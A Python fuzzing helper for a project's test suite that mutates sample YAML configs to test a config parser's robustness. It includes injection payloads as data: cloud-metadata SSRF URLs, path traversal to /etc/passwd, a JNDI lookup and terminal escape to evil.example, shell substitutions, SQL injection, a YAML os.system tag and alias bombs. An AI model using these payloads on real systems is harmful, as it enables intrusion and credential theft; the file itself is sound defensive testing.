"""Configs as nobody means them: those of the examples and of the documentation, damaged at random and always alike."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from random import Random
from typing import Any, NamedTuple

from ruamel.yaml import YAML

from tests.unit.docs.pages import ROOT, all_samples

EXAMPLES = ROOT / "examples"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
CONTROLS = "".join(map(chr, [*range(0x20), 0x7F, *range(0x80, 0xA0)]))
ODD_TEXTS = (
    *("no", "off", "Yes", "~", "null", "Null", "0o17", "017", "0x1F", "1_000", "+.inf", "-.INF", ".nan", "1e400"),
    *(
        "12:30:45",
        "2027-01-01",
        "2001-12-14t21:59:43.10-05:00",
        "9999-12-31T23:59:59-23:59",
        "0001-01-01T00:00:00+23:59",
    ),
    *("9" * 5_000, "-" + "9" * 400, "0x" + "f" * 500, "1e" + "9" * 100, "\u0661\u0662", "0.1e-9999"),
    *("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "file:///etc/passwd", "//evil.example/a"),
    *("http://[::ffff:169.254.169.254]/", "http://metadata.google.internal/", "gopher://127.0.0.1:6379/_FLUSHALL"),
    *(
        "../../../../etc/passwd",
        "..\\..\\windows",
        "%2e%2e%2f",
        "....//",
        "/",
        ".",
        "..",
        "C:\\x",
        "~root",
        "\\\\host\\share",
    ),
    *(
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "$(id)",
    ),
    *("`id`", "'; DROP TABLE deliveries; --", "%s%n%x", "${name}", "$${", "${", "[red]x[/red]", "\\u001b[31m"),
    *("States.Format('{}')", "$.secret", "$states.input", "{% $eval('1') %}", "arn:aws:iam::123456789012:role/Admin"),
    *("secret://../../other", "secret://" + "a" * 600, "secret://arn:aws:secretsmanager:a", "AKIAIOSFODNN7EXAMPL3"),
    *(
        "\ufeff",
        "\u200b",
        "a\u0301",
        "\u00e1",
        "\uff0e\uff0e\uff0f",
        "\U0001f600" * 30,
        "\u2028",
        "e\u0301" * 40,
        "prod ",
    ),
    *("[aep-delivery owner=x delivery=prod/other kind=dataflow]", "a" * 70_000, "-" * 300, "%SEGMENT_ID%" * 50, "%%%"),
)
"""Texts that mean something somewhere else: to YAML 1.1, a shell, a browser, a terminal, a file system, a cloud."""
ODD_VALUES: tuple[Any, ...] = (
    *(None, True, False, 0, -1, 10**19, -(10**40), 1.5, 1e308, [], {}, [[]], [None], {"a": {"b": [1]}}, {"": 1}),
    *([{"id": 1}] * 3, ["x"] * 200, {f"k{n}": n for n in range(200)}, "", " ", {"type": "amazon-s3"}, {"<<": {"a": 1}}),
)


class Hostile(NamedTuple):
    """A damaged config."""

    how: str
    name: str
    text: bytes


Mutation = Callable[[Random, bytes], bytes]


@cache
def seeds() -> tuple[bytes, ...]:
    """Sound configs: the examples, and what the documentation shows."""
    examples = [path.read_bytes() for path in sorted([*EXAMPLES.glob("*.yaml"), *EXAMPLES.glob("environments/*.yaml")])]
    return (*examples, *(sample.text.encode() for sample in all_samples("config")))


def bases() -> dict[str, bytes]:
    """The files that an example extends, by name."""
    return {path.name: path.read_bytes() for path in Path(EXAMPLES, "environments").glob("*.yaml")}


def hostile_configs(seed: int, number: int) -> Iterator[Hostile]:
    """As many damaged configs; the same ones for the same seed."""
    random = Random(seed)  # noqa: S311 - the same every time
    ways = sorted(MUTATIONS)
    for index in range(number):
        how = ways[index % len(ways)]
        text = MUTATIONS[how](random, random.choice(seeds()))
        if random.random() < 0.2:
            again = random.choice(ways)
            how, text = f"{how}, {again}", MUTATIONS[again](random, text)
        yield Hostile(how, random.choice(("crm.yaml", "crm.yaml", "crm.yml", "crm.json")), text)


def _at(random: Random, text: bytes) -> int:
    return random.randrange(len(text) + 1)


def _flip(random: Random, text: bytes) -> bytes:
    damaged = bytearray(text or b"\0")
    for _ in range(random.choice((1, 1, 2, 8))):
        damaged[random.randrange(len(damaged))] ^= 1 << random.randrange(8)
    return bytes(damaged)


def _cut(random: Random, text: bytes) -> bytes:
    return text[: _at(random, text)]


def _without_some(random: Random, text: bytes) -> bytes:
    first, last = sorted((_at(random, text), _at(random, text)))
    return text[:first] + text[last:]


def _insert(pieces: tuple[bytes, ...]) -> Mutation:
    def mutate(random: Random, text: bytes) -> bytes:
        for _ in range(random.choice((1, 1, 3))):
            place = _at(random, text)
            text = text[:place] + random.choice(pieces) + text[place:]
        return text

    return mutate


def _lines(change: Callable[[Random, list[bytes]], None]) -> Mutation:
    def mutate(random: Random, text: bytes) -> bytes:
        lines = text.split(b"\n")
        change(random, lines)
        return b"\n".join(lines)

    return mutate


def _drop_line(random: Random, lines: list[bytes]) -> None:
    del lines[random.randrange(len(lines))]


def _double_line(random: Random, lines: list[bytes]) -> None:
    for _ in range(random.choice((1, 1, 50))):
        lines.insert(random.randrange(len(lines) + 1), random.choice(lines))


def _swap_lines(random: Random, lines: list[bytes]) -> None:
    random.shuffle(lines)


def _shift_line(random: Random, lines: list[bytes]) -> None:
    index = random.randrange(len(lines))
    lines[index] = random.choice((b" ", b"   ", b"\t", b"- ", b"-", b"? ", b": ", b"")) + lines[index].lstrip()


def _decorate(random: Random, lines: list[bytes]) -> None:
    """Anchors, aliases, tags and merges where a value stands."""
    index = random.randrange(len(lines))
    name, colon, value = lines[index].partition(b":")
    ornaments = (
        b" &a",
        b" *a",
        b" !!python/object/apply:os.system",
        b" !!binary",
        b" !<tag:x>",
        b" !!map",
        b" !!omap",
        b" |",
        b" >-9",
    )
    lines[index] = name + colon + random.choice(ornaments) + value
    if random.random() < 0.3:
        lines.insert(index, b"<<: *a" if random.random() < 0.5 else b"%TAG ! tag:x,2000:")


def _damaged_data(damage: Callable[[Random, list[tuple[Any, Any]], Any], Any]) -> Mutation:
    """Of the data, written as JSON, or as YAML where that has a chance to be read otherwise."""

    def mutate(random: Random, text: bytes) -> bytes:
        data = _read(text)
        places = list(_places(data))
        damage(random, places, data)
        return json.dumps(
            data, default=str, ensure_ascii=random.random() < 0.5, indent=random.choice((None, 1))
        ).encode("utf-8", "surrogatepass")

    return mutate


def _read(text: bytes) -> dict[str, Any]:
    """The data of a config; of one that was damaged before, or has aliases, some other."""
    try:
        data = None if b"&" in text else YAML(typ="safe", pure=True).load(text.decode("utf-8", "replace"))
    except Exception:  # noqa: BLE001 - damaged in any way
        data = None
    return (
        data if isinstance(data, dict) and data else {"version": 1, "name": "a", "destination": {"type": "amazon-s3"}}
    )


def _places(value: Any) -> Iterator[tuple[Any, Any]]:
    """Every container with every key or index in it."""
    below = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in list(below):
        yield value, key
        yield from _places(inner)


def _swap_values(random: Random, places: list[tuple[Any, Any]], _data: Any) -> None:
    for _ in range(random.choice((1, 2, 4))):
        container, key = random.choice(places)
        container[key] = random.choice(ODD_VALUES)


def _odd_texts(random: Random, places: list[tuple[Any, Any]], _data: Any) -> None:
    for _ in range(random.choice((1, 2))):
        container, key = random.choice(places)
        container[key] = random.choice(ODD_TEXTS)


def _marred_texts(random: Random, places: list[tuple[Any, Any]], _data: Any) -> None:
    texts = [(container, key) for container, key in places if isinstance(container[key], str)]
    container, key = random.choice(texts or places)
    text = str(container[key])
    place = random.randrange(len(text) + 1)
    container[key] = text[:place] + random.choice(BIDI + CONTROLS + "\ud800\udfff\ufffe\u2028") + text[place:]


def _odd_names(random: Random, places: list[tuple[Any, Any]], data: Any) -> None:
    container = random.choice([data, *(container for container, _ in places if isinstance(container, dict))])
    name = random.choice((*ODD_TEXTS, random.choice(CONTROLS) * 3, random.choice(BIDI) + "name", "\x1b]0;owned\x07"))
    container[name] = random.choice(ODD_VALUES)


def _moved(random: Random, places: list[tuple[Any, Any]], data: Any) -> None:
    container, key = random.choice(places)
    target = random.choice([data, *(one for one, _ in places if isinstance(one, dict))])
    value = container[key]
    if target is not value and not any(target is inner for inner, _ in _places(value)):
        target[str(key)] = value


def _deep(random: Random, places: list[tuple[Any, Any]], _data: Any) -> None:
    container, key = random.choice(places)
    value = container[key]
    for _ in range(random.choice((1, 2, 18, 19, 20, 21, 200))):
        value = [value] if random.random() < 0.5 else {"a": value}
    container[key] = value


def _many(random: Random, places: list[tuple[Any, Any]], _data: Any) -> None:
    container, key = random.choice(places)
    value = container[key]
    most = 300_000 // (len(json.dumps(value, default=str)) + 1)
    container[key] = [value] * max(2, min(most, random.choice((2, 50, 400))))


def _as_json(random: Random, places: list[tuple[Any, Any]], data: Any) -> None:
    """As it is, in the other notation."""


def _otherwise_encoded(random: Random, text: bytes) -> bytes:
    decoded = text.decode("utf-8", "replace")
    return decoded.encode(
        random.choice(("utf-16", "utf-16-be", "utf-32", "utf-7", "cp1252", "utf-8-sig", "cp037")), "replace"
    )


def _bomb(random: Random, text: bytes) -> bytes:
    """Few bytes that stand for many."""
    size = random.choice((20, 200, 2_000))
    return text + random.choice(
        (
            b"\nx: &a [a]\n" + b"".join(b"y%d: [*a, *a, *a]\n" % n for n in range(size)),
            b"\nl0: &l0 [a, a]\n" + b"".join(b"l%d: &l%d [*l%d, *l%d]\n" % (n, n, n - 1, n - 1) for n in range(1, 40)),
            b"\nx: " + b"[" * size,
            b"\nx: " + b"{a: " * size,
            b"\nx:\n" + b"- !t b\n" * size,
            b"\n" + b"? [a]\n: b\n" * size,
            b"\n" + b"version: 1\n" * size,
            b"\nvariables: {a: " + b"x" * 500 + b"}\ndescription: " + b"${a}" * size + b"\n",
            b"\n--- \n" * size,
            b"\ndescription: >\n" + b"  a\n" * size,
            b"\n" + b"a" * size * 10 + b": 1\n",
        )
    )


_BYTES = (
    b"\0",
    b"\x1b[2J",
    b"\x1b]8;;http://evil.example\x07",
    b"\x7f",
    b"\x80",
    b"\xff\xfe",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
)
_MARKS = (
    *(mark.encode() for mark in BIDI),
    b"\xef\xbb\xbf",
    b"\xc2\x85",
    b"\xe2\x80\xa8",
    b"\xc2\xa0",
    b"\r",
    b"\r\n",
    b"\t",
)
_SIGNS = (
    *(bytes([sign]) for sign in b"[]{}:,-?&*!|>'\"%@`#=~<$\\"),
    b": ",
    b"- ",
    b"\n",
    b"\n---\n",
    b"\n...\n",
    b" #",
    b"${",
    b"<<: ",
)

MUTATIONS: dict[str, Mutation] = {
    "bits": _flip,
    "cut": _cut,
    "gap": _without_some,
    "bytes": _insert(_BYTES),
    "marks": _insert(_MARKS),
    "signs": _insert(_SIGNS),
    "line gone": _lines(_drop_line),
    "line twice": _lines(_double_line),
    "lines shuffled": _lines(_swap_lines),
    "line shifted": _lines(_shift_line),
    "anchors and tags": _lines(_decorate),
    "types": _damaged_data(_swap_values),
    "texts": _damaged_data(_odd_texts),
    "marred texts": _damaged_data(_marred_texts),
    "names": _damaged_data(_odd_names),
    "moved": _damaged_data(_moved),
    "deep": _damaged_data(_deep),
    "many": _damaged_data(_many),
    "json": _damaged_data(_as_json),
    "encoding": _otherwise_encoded,
    "bomb": _bomb,
}
